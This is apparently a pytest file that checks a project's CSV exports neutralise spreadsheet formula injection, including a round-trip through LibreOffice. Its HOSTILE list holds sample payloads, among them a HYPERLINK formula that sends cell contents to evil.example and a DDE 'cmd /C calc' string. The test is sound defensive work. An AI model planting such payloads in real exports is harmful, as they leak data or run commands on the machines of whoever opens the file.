"""CSV formula injection (issue 14, point 11): every CSV the project writes, as LibreOffice
reads it. A cell that starts with = + - @, a tab or a carriage return is text, never a
formula; the rest is left as written."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from facilitator.audio.convert import Clip, Quote, _write_csv
from facilitator.core.clock import FakeClock
from facilitator.core.spreadsheet import safe_cell
from facilitator.services.exporting import write_export
from facilitator.services.live import LiveSession

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "- forms are hard",
    "+47 22 00 00 00",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_made_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["plain words", "", "12:30", "'already quoted", "a = b"])
def test_other_cells_are_left_as_written(text: str) -> None:
    assert safe_cell(text) == text


def as_xlsx(csv_path: Path, out_dir: Path):
    """The CSV opened by LibreOffice (';' separated, '"' quoted, UTF-8) and saved as xlsx."""
    done = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{out_dir}/profile",
         "--infilter=CSV:59,34,76,1", "--convert-to", "xlsx", "--outdir", str(out_dir),
         str(csv_path)],
        capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    xlsx = out_dir / (csv_path.stem + ".xlsx")
    assert xlsx.exists(), done.stdout + done.stderr
    return openpyxl.load_workbook(xlsx).active


def cells_with(sheet, words: str):
    return [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and words in c.value
    ]


pytestmark_soffice = pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice is not installed (make test installs it: scripts/ensure-system.sh test)",
)


@pytest.mark.slow
@pytestmark_soffice
def test_libreoffice_reads_hostile_notes_as_text(
    live: LiveSession, clock: FakeClock, tmp_path: Path
) -> None:
    live.speak("P1")
    for text in HOSTILE[:4]:
        clock.advance(5)
        live.add_note(text + " #quote")
    out = write_export(live.store, live.info, live.state, "csv", clock.now(), tmp_path / "m.csv")
    clips_csv = tmp_path / "clips.csv"
    quotes = [Quote(n, 5.0 * n, "P1", "q1.1", text) for n, text in enumerate(HOSTILE[:4], 1)]
    _write_csv(clips_csv, [Clip(tmp_path / f"{q.number}.flac", 0.0, 1.0, q) for q in quotes])
    for path in (out, clips_csv):
        folder = tmp_path / path.stem
        folder.mkdir()
        sheet = as_xlsx(path, folder)
        for text, words in zip(
            HOSTILE[:4], ("HYPERLINK", "forms are hard", "47 22", "SUM(A1"), strict=True
        ):
            [cell] = cells_with(sheet, words)
            assert cell.data_type == "s", (path.name, text, cell.data_type)
            assert cell.value.lstrip("'") == text  # the words themselves, whole
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
